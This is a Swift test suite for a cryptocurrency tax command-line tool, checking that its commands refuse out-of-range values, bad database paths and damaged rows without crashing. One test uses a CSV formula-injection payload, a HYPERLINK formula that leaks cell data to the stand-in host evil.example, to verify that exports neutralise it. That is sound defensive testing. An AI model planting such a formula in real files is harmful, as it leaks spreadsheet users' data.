import Foundation
import Testing
import HarvestTestSupport

/// Issue 19 at the command line, as a user meets it: each input from the issue (or a smaller one) is refused with a
/// clear message and exit 64/65, or read; nothing crashes, nothing is stored that a later command cannot read.
@Suite("Robustness: the commands refuse what they cannot keep, and never crash")
struct RobustnessCommandTests {
    static let sqlite3 = URL(fileURLWithPath: "/usr/bin/sqlite3")
    static var hasSQLite3: Bool { FileManager.default.isExecutableFile(atPath: sqlite3.path) }

    /// Runs SQL on the scratch database with the sqlite3 shell (a hand edit, as a user would make one).
    func sql(_ cli: CLI, _ statement: String) throws {
        let result = try cli.run(executable: RobustnessCommandTests.sqlite3, [cli.database, statement], environment: [:])
        #expect(result.status == 0, "\(result.stderr)")
    }

    @Test("a timestamp outside 0001-9998 and an amount past 1e15 are refused at import, exit 65, nothing stored")
    func importRanges() throws {
        let cli = try CLI()
        let path = try cli.file("t.csv", """
            \(header)
            9999-12-31T23:00:00-18:00,buy,cb,100,USD,1,BTC,,,,,a,
            2024-01-01T00:00:00Z,buy,cb,100,USD,1e20,BTC,,,,,b,
            2024-01-02T00:00:00Z,buy,cb,100,USD,1,BTC,,,,,c,

            """)
        let result = try cli.run("import", path)
        #expect(result.status == 65)
        #expect(result.stderr.contains("\(path):2: timestamp: '9999-12-31T23:00:00-18:00' is outside the supported dates 0001-01-01 to 9998-12-31 (UTC)"))
        #expect(result.stderr.contains("\(path):3: received_quantity: '1e20' is outside the supported range"))
        #expect(try cli.run("gains").status == 0)
        #expect(try cli.run("holdings", "--format", "csv").stdout.split(separator: "\n").count == 1)
    }

    @Test("settings and profile values are range-checked when set: a carryforward of 1.7e20 is a usage error")
    func settingsRanges() throws {
        let cli = try CLI()
        let huge = "170141183460469231731.687303715884105727"
        let set = try cli.run("settings", "set", "carryforward-short", huge)
        #expect(set.status == 64)
        #expect(set.stderr.contains("setting carryforward-short = '\(huge)': expected a positive amount such as 5000 or 1234.56, at most 1e15"))
        let profile = try cli.run("profile", "set", "--carryforward-long", huge)
        #expect(profile.status == 64)
        // Nothing was stored: a sale's gains come out (bought 100, sold 150: 50).
        let path = try cli.file("t.csv", "\(header)\n2024-01-01,buy,cb,100,USD,1,BTC,,,,,a,\n2024-02-01,sell,cb,1,BTC,150,USD,,,,,b,\n")
        #expect(try cli.run("import", path).status == 0)
        let gains = try cli.run("gains", "--format", "csv")
        #expect(gains.status == 0)
        #expect(gains.stdout.contains(",100.00,50.00,") || gains.stdout.contains("150.00,100.00,"))
    }

    @Test("plan --target with weights of 1e20 is a usage error (exit 64), not an overflow")
    func targetWeights() throws {
        let cli = try CLI()
        let result = try cli.run("plan", "--target", "BTC=1e20,ETH=1e20")
        #expect(result.status == 64)
        #expect(result.stderr.contains("weight 1e20 of BTC is more than 1"))
    }

    @Test("--db '' and --db :memory: are refused for a command that writes (exit 64): nothing imported into nothing",
          arguments: ["", ":memory:"])
    func notAFile(_ db: String) throws {
        let cli = try CLI()
        let path = try cli.file("t.csv", "\(header)\n2024-01-01,buy,cb,100,USD,1,BTC,,,,,a,\n")
        let result = try cli.run(["--db", db, "import", path], environment: ProcessInfo.processInfo.environment.filter { $0.key != "HARVEST_DB" })
        #expect(result.status == 64)
        #expect(result.stderr.contains("is not a database file"))
        #expect(!result.stdout.contains("added"))
    }

    @Test("without HOME (unset or empty) and without XDG_DATA_HOME the database has no place: a clear error, no ./harvest folder",
          arguments: [nil, ""] as [String?])
    func noHome(_ home: String?) throws {
        let cli = try CLI()
        let path = try cli.file("t.csv", "\(header)\n2024-01-01,buy,cb,100,USD,1,BTC,,,,,a,\n")
        var environment = ProcessInfo.processInfo.environment.filter { !["HARVEST_DB", "HOME", "XDG_DATA_HOME"].contains($0.key) }
        if let home { environment["HOME"] = home }
        let result = try cli.run(["import", path], environment: environment)
        #expect(result.status == 64)
        #expect(result.stderr.contains("no place for the database"))
        #expect(!FileManager.default.fileExists(atPath: cli.directory.appendingPathComponent("harvest").path))
    }

    @Test("with XDG_DATA_HOME the database goes there, and the command says where it created it")
    func xdgDataHome() throws {
        let cli = try CLI()
        let path = try cli.file("t.csv", "\(header)\n2024-01-01,buy,cb,100,USD,1,BTC,,,,,a,\n")
        let data = cli.directory.appendingPathComponent("data").path
        var environment = ProcessInfo.processInfo.environment.filter { !["HARVEST_DB", "HOME"].contains($0.key) }
        environment["XDG_DATA_HOME"] = data
        let result = try cli.run(["import", path], environment: environment)
        #expect(result.status == 0)
        #expect(result.stderr.contains("created the database \(data)/harvest/harvest.sqlite"))
        #expect(FileManager.default.fileExists(atPath: data + "/harvest/harvest.sqlite"))
    }

    @Test("CSV outputs neutralise formula injection (OWASP); JSON keeps the exact wallet name")
    func formulaInjection() throws {
        let cli = try CLI()
        let wallet = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click me\")"
        let quoted = "\"" + wallet.replacingOccurrences(of: "\"", with: "\"\"") + "\""
        let path = try cli.file("t.csv", """
            \(header)
            2024-01-01,buy,\(quoted),100,USD,1,BTC,,,,,a,+note
            2024-02-01,sell,\(quoted),0.5,BTC,40,USD,,,,,b,@note

            """)
        #expect(try cli.run("import", path).status == 0)
        // In CSV the cell starts with a quote mark, so a spreadsheet shows it as text: "'=HYPERLINK(""http...
        let neutral = "\"'" + wallet.replacingOccurrences(of: "\"", with: "\"\"") + "\""
        for command in [["holdings", "--as-of", "2024-12-31"], ["gains"], ["tx", "list"], ["transfers"]] {
            let csv = try cli.run(command + ["--format", "csv"])
            #expect(csv.status == 0, "\(command)")
            #expect(!csv.stdout.contains(",=HYPERLINK") && !csv.stdout.contains(",\"=HYPERLINK"), "\(command)")
            if command != ["transfers"] { #expect(csv.stdout.contains(neutral), "\(command): \(csv.stdout)") }
        }
        // Negative numbers are numbers, not formulas: a loss keeps its minus sign (sold half for 40 against 50: -10).
        #expect(try cli.run("gains", "--format", "csv").stdout.contains(",-10.00,"))
        let json = try cli.run("gains", "--format", "json")
        #expect(json.stdout.contains("\"=HYPERLINK(\\\"http://evil.example/?leak=\\\"&A1,\\\"click me\\\")\""))
    }

    @Test("a newline in a wallet name does not split a table row: control characters are escaped")
    func controlCharacters() throws {
        let cli = try CLI()
        let path = try cli.file("t.csv", "\(header)\n2024-01-01,buy,\"cold\nstorage\u{1B}[31m\",100,USD,1,BTC,,,,,a,\n")
        #expect(try cli.run("import", path).status == 0)
        let table = try cli.run("holdings", "--as-of", "2024-12-31")
        #expect(table.status == 0)
        let rows = table.stdout.split(separator: "\n").filter { $0.hasPrefix("BTC") }
        #expect(rows.count == 1)
        #expect(rows.first?.contains("cold\\nstorage\\u{1B}[31m") == true, "\(table.stdout)")
    }

    @Test("a hand-edited transfer decision with a NULL wallet is reported as a damaged row, not a crash",
          .enabled(if: hasSQLite3, "needs /usr/bin/sqlite3 to edit the database by hand"))
    func nullTransferWallet() throws {
        let cli = try CLI()
        let path = try cli.file("t.csv", "\(header)\n2024-01-01,buy,cb,100,USD,1,BTC,,,,,a,\n2024-02-01,withdrawal,cb,0.5,BTC,,,,,,,w1,\n")
        #expect(try cli.run("import", path).status == 0)
        try sql(cli, "INSERT INTO transferLink (wallet, txId, decision, otherWallet, otherTxId, createdAt) VALUES ('cb', 'w1', 'match', NULL, NULL, '2024')")
        for command in [["gains"], ["holdings"]] {
            let result = try cli.run(command)
            #expect(result.status == 1, "\(command)")
            #expect(result.stderr.contains("transferLink row") && result.stderr.contains("column otherWallet holds 'NULL'"), "\(result.stderr)")
            #expect(!result.stderr.contains("crashed"))
        }
    }

    @Test("a database from a newer Harvest (an unknown migration) is refused for writing, naming both schema versions; it can still be read",
          .enabled(if: hasSQLite3, "needs /usr/bin/sqlite3 to add a migration by hand"))
    func newerSchema() throws {
        let cli = try CLI()
        let path = try cli.file("t.csv", "\(header)\n2024-01-01,buy,cb,100,USD,1,BTC,,,,,a,\n")
        #expect(try cli.run("import", path).status == 0)
        try sql(cli, "INSERT INTO grdb_migrations (identifier) VALUES ('v99-from-the-future')")
        let set = try cli.run("settings", "set", "timezone", "America/New_York")
        #expect(set.status == 1)
        #expect(set.stderr.contains("migrations v99-from-the-future are unknown here"))
        #expect(set.stderr.contains("written by a newer Harvest than this one (schema version"))
        let more = try cli.file("u.csv", "\(header)\n2024-01-02,buy,cb,100,USD,1,BTC,,,,,b,\n")
        #expect(try cli.run("import", more).status == 1)
        // Read: the one lot bought before, with a warning.
        let holdings = try cli.run("holdings", "--as-of", "2024-12-31", "--format", "csv")
        #expect(holdings.status == 0)
        #expect(holdings.stdout.split(separator: "\n").count == 2)
        #expect(holdings.stderr.contains("written by a newer Harvest"))
    }

    @Test("a write waits for another writer (busy timeout), and when waiting is pointless says who holds the database",
          .enabled(if: hasSQLite3, "needs /usr/bin/sqlite3 to hold the write lock"))
    func busy() throws {
        let cli = try CLI()
        #expect(try cli.run("settings", "set", "timezone", "UTC").status == 0)
        // Another writer holds the lock for 3 seconds; its note beside the file names it, as a harvest command's would.
        try "`harvest import big.csv` (pid 4242)".write(toFile: cli.database + "-writer", atomically: true, encoding: .utf8)
        let holder = Process()
        holder.executableURL = URL(fileURLWithPath: "/bin/sh")
        holder.arguments = ["-c", "(echo 'BEGIN IMMEDIATE;'; echo 'INSERT OR REPLACE INTO setting (key, value) VALUES (\"stale-price-days\", \"5\");'; sleep 3; echo 'COMMIT;') | /usr/bin/sqlite3 '\(cli.database)'"]
        try holder.run()
        Thread.sleep(forTimeInterval: 0.8)
        var impatient = ProcessInfo.processInfo.environment
        impatient["HARVEST_DB"] = cli.database
        impatient["HARVEST_BUSY_TIMEOUT"] = "0.3"
        let refused = try cli.run(["settings", "set", "filing", "mfj"], environment: impatient)
        #expect(refused.status == 1)
        #expect(refused.stderr.contains("is busy: `harvest import big.csv` (pid 4242) is writing it"), "\(refused.stderr)")
        #expect(!refused.stderr.contains("database is locked"))
        // With the default timeout the same command waits its turn and lands.
        let patient = try cli.run("settings", "set", "filing", "mfj")
        holder.waitUntilExit()
        #expect(patient.status == 0, "\(patient.stderr)")
        #expect(try cli.run("settings").stdout.contains("mfj"))
    }

    @Test("two imports and a time zone change at once: all three land, and every row carries the time in the zone set")
    func concurrentImportsAndSettings() throws {
        let cli = try CLI()
        #expect(try cli.run("settings", "set", "timezone", "UTC").status == 0)
        // Times without an offset are wall-clock times in the tax time zone: 02:00 on 1 March in New York is 07:00 UTC,
        // tax day 1 March. Stored as UTC (the race of issue 19), they would read as 21:00 on 29 February in New York.
        func rows(_ wallet: String) -> String {
            (1...300).map { "2024-03-01T02:00:00,buy,\(wallet),100,USD,0.001,BTC,,,,,\(wallet)\($0)," }.joined(separator: "\n")
        }
        let first = try cli.file("a.csv", "\(header)\n\(rows("a"))\n"), second = try cli.file("b.csv", "\(header)\n\(rows("b"))\n")
        var environment = ProcessInfo.processInfo.environment
        environment["HARVEST_DB"] = cli.database
        let commands = [["import", first], ["settings", "set", "timezone", "America/New_York"], ["import", second]]
        let processes = try commands.map { arguments in
            let process = Process()
            process.executableURL = CLI.executable
            process.arguments = arguments
            process.environment = environment
            process.currentDirectoryURL = cli.directory
            process.standardOutput = FileHandle.nullDevice
            process.standardError = FileHandle.nullDevice
            try process.run()
            return process
        }
        for process in processes { process.waitUntilExit() }
        #expect(processes.map(\.terminationStatus) == [0, 0, 0])
        let list = try cli.run("tx", "list", "--format", "csv")
        let lines = list.stdout.split(separator: "\n").dropFirst()
        #expect(lines.count == 600)
        let header = list.stdout.split(separator: "\n").first?.split(separator: ",").map(String.init) ?? []
        let date = try #require(header.firstIndex(of: "date")), timestamp = try #require(header.firstIndex(of: "timestamp"))
        for line in lines {
            let fields = line.split(separator: ",", omittingEmptySubsequences: false)
            #expect(fields[date] == "2024-03-01")
            #expect(fields[timestamp].hasPrefix("2024-03-01T07:00:00"), "\(line)")
        }
    }
}
